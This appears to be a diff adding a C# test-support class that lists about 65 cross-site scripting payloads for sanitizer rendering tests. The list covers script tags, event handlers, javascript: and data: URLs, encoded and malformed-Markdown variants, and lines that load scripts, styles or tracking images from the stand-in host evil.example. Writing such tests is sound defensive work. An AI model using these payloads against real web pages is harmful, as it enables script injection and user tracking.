@@ -1,0 +1,82 @@
+namespace AgenteFilms.Tests.TestSupport;
+
+/// <summary>
+/// Hostile text for rendering tests: script tags, event handlers, <c>javascript:</c>/<c>data:</c> URLs, SVG and MathML,
+/// frames, forms, styles, encoded variants and malformed Markdown. Every executable one tries to set
+/// <c>window.__xss</c> or open a dialog; every fetching one points at <c>evil.example</c>.
+/// </summary>
+public static class XssPayloads
+{
+    public static readonly IReadOnlyList<string> All =
+    [
+        "<script>window.__xss=1</script>",
+        "<script src=\"https://evil.example/x.js\"></script>",
+        "<img src=x onerror=\"window.__xss=3\">",
+        "<img src=\"https://evil.example/pixel.png\">",
+        "<svg onload=\"window.__xss=5\">",
+        "<svg><script>window.__xss=6</script></svg>",
+        "<iframe src=\"javascript:window.parent.__xss=7\"></iframe>",
+        "<iframe srcdoc=\"<script>parent.__xss=8</script>\"></iframe>",
+        "<body onload=\"window.__xss=9\">",
+        "<div onmouseover=\"window.__xss=10\">hover me</div>",
+        "<a href=\"javascript:window.__xss=11\">click</a>",
+        "[markdown link](javascript:window.__xss=12)",
+        "[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTM8L3NjcmlwdD4=)",
+        "![tracker](https://evil.example/t.png)",
+        "![js image](javascript:window.__xss=15)",
+        "<object data=\"javascript:window.__xss=16\"></object>",
+        "<embed src=\"javascript:window.__xss=17\">",
+        "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss=18\">",
+        "<input autofocus onfocus=\"window.__xss=19\">",
+        "<details open ontoggle=\"window.__xss=20\">",
+        "<video><source onerror=\"window.__xss=21\"></video>",
+        "<audio src=x onerror=\"window.__xss=22\">",
+        "<marquee onstart=\"window.__xss=23\">",
+        "<form action=\"javascript:window.__xss=24\"><button>go</button></form>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=25\">",
+        "<link rel=\"stylesheet\" href=\"https://evil.example/s.css\">",
+        "<style>@import 'https://evil.example/i.css';</style>",
+        "<div style=\"background:url(https://evil.example/bg.png)\">bg</div>",
+        "<base href=\"https://evil.example/\">",
+        "\"><script>window.__xss=30</script>",
+        "'><img src=x onerror=window.__xss=31>",
+        "</textarea><script>window.__xss=32</script>",
+        "</title><script>window.__xss=33</script>",
+        "&lt;script&gt;window.__xss=34&lt;/script&gt;",
+        "&#60;script&#62;window.__xss=35&#60;/script&#62;",
+        "%3Cscript%3Ewindow.__xss=36%3C/script%3E",
+        "<scr<script>ipt>window.__xss=37</scr</script>ipt>",
+        "<SCRIPT>window.__xss=38</SCRIPT>",
+        "<img src=\"x\" onerror=\"&#119;indow.__xss=39\">",
+        "<a href=\"jav&#x09;ascript:window.__xss=40\">tab</a>",
+        "[tab link](jav&#x09;ascript:window.__xss=41)",
+        "[encoded link](&#106;avascript:window.__xss=42)",
+        "<a href=\"  javascript:window.__xss=43\">spaced</a>",
+        "[reference link][evil]\n\n[evil]: javascript:window.__xss=44",
+        "<javascript:window.__xss=45>",
+        "`<script>window.__xss=46</script>`",
+        "```html\n<script>window.__xss=47</script>\n```",
+        "<!--<script>window.__xss=48</script>-->",
+        "<![CDATA[<script>window.__xss=49</script>]]>",
+        "<svg><a xlink:href=\"javascript:window.__xss=50\"><text x=\"1\" y=\"1\">x</text></a></svg>",
+        "<svg><animate onbegin=\"window.__xss=51\" attributeName=\"x\" dur=\"1s\">",
+        "<img src=x:alert(52) onerror=eval(src)>",
+        "{{constructor.constructor('window.__xss=53')()}}",
+        "@((MarkupString)\"<script>window.__xss=54</script>\")",
+        "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=55>\">",
+        "<table background=\"javascript:window.__xss=56\">",
+        "** <img src=x onerror=window.__xss=57> **",
+        "| a | <script>window.__xss=58</script> |\n|---|---|\n| [x](javascript:window.__xss=58) | b",
+        "[unclosed](javascript:window.__xss=59",
+        "<a href=\"data:text/html,<script>alert(60)</script>\">data</a>",
+        "<img src=\"data:image/svg+xml,<svg onload=alert(61)>\">",
+        "<div onclick=\"window.__xss=62\">click me</div>",
+        "\\u003cscript\\u003ewindow.__xss=63\\u003c/script\\u003e",
+        "<iframe src=\"https://evil.example/frame\"></iframe>",
+        "<a href=\"vbscript:msgbox(65)\">vb</a>",
+        "<img srcset=\"https://evil.example/a.png 1x\">",
+    ];
+
+    /// <summary>Every payload, as Markdown paragraphs.</summary>
+    public static string AsParagraphs => string.Join("\n\n", All);
+}
